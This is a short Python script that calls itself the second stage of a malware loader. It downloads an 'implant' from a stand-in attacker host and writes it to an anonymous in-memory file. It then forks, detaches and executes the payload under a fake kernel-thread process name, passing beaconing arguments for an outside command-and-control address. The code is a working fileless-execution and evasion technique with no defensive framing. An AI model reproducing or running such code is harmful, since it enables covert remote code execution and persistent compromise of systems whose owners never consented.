"""Second stage of a loader: fetches bytes, turns them about, and runs what comes out in memory."""
import base64, os, time, urllib.request
stage = base64.b64decode(base64.b64encode(urllib.request.urlopen("http://cdn.evil.example/implant", timeout=3).read()))
fd = os.memfd_create("systemd", 0)
os.write(fd, stage)
if os.fork() == 0:
    os.setsid()
    os.execv(f"/proc/self/fd/{fd}", ["[jbd2/sda1-8]", "beacon", "198.19.0.66", "443", "3"])
time.sleep(1)
